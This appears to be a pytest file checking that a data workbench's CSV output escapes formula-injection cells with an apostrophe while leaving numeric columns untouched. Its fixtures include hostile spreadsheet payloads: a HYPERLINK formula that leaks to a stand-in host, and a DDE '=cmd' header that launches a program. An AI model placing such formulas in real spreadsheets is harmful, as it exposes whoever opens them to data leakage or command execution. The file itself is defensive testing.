"""Every CSV the workbench writes for people is safe to open in a spreadsheet: no text cell or
column name can run as a formula (OWASP CSV injection), numbers stay numbers."""

import csv
import io

import pandas as pd

from submission_files import person, write_submission
from workbench.cli import main
from workbench.csv_output import write_csv

LINK = '=HYPERLINK("http://x.invalid/?leak","click me")'
RISKY_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(path):
    text = path.read_bytes().decode("utf-8")  # as written: no newline translation
    return text, list(csv.reader(io.StringIO(text, newline="")))


def test_text_cells_and_names_that_could_run_are_made_inert(tmp_path):
    frame = pd.DataFrame(
        {
            "label": [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "plain", "-3", None],
            "value": [-3.5, 1, 2, 3, 4, 5, 6, 7, 8],
            "=cmd|' /C calc'!A0": ["a"] * 9,
        }
    )
    path = write_csv(frame, tmp_path / "out.csv")
    text, rows = _cells(path)
    assert rows[0] == ["label", "value", "'=cmd|' /C calc'!A0"]
    assert [r[0] for r in rows[1:]] == [
        "'" + LINK,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=1",
        "'\r=1",
        "plain",
        "-3",  # a plain number held as text cannot run: left as it is
        "",
    ]
    assert [r[1] for r in rows[1:]][:2] == ["-3.5", "1.0"]  # a number column is not touched
    numbers = {"-3.5", "-3"}
    assert not [c for row in rows for c in row if c.startswith(RISKY_START) and c not in numbers]
    assert "\n=" not in text and not text.startswith("=")
    assert frame.loc[0, "label"] == LINK  # the caller's frame is not changed


def test_a_mixed_column_keeps_its_numbers(tmp_path):
    frame = pd.DataFrame({"rows": pd.Series(["*", 5, 10, "=1+1"], dtype=object)})
    _, rows = _cells(write_csv(frame, tmp_path / "out.csv"))
    assert [r[0] for r in rows] == ["rows", "*", "5", "10", "'=1+1"]


def test_comment_line_comes_first(tmp_path):
    frame = pd.DataFrame({"n": [1]})
    text, _ = _cells(write_csv(frame, tmp_path / "out.csv", comment="Disclosure control OFF\nx"))
    assert text.splitlines() == ["# Disclosure control OFF x", "n", "1"]


def test_measure_out_csv_carries_no_live_formula(tmp_path, capsys):
    """A submitted value that reaches a measure CSV (the provider code of a rejected row) is
    written inert."""
    src = tmp_path / "src"
    write_submission(
        src, "mpi", "RXA", "20250201", [person("P1"), person("P2", provider_code=LINK)]
    )
    assert main(["ingest", str(src), "--out", str(tmp_path / "store"), "--quiet"]) == 0
    out = tmp_path / "rejects.csv"
    code = main(
        [
            "measure",
            "dq",
            "--what",
            "rejects",
            "--by",
            "provider",
            "--store",
            str(tmp_path / "store"),
            "--out",
            str(out),
        ]
    )
    capsys.readouterr()
    assert code == 0
    text, rows = _cells(out)
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells
    assert not [c for c in cells if c.startswith(RISKY_START) and c != "-"]
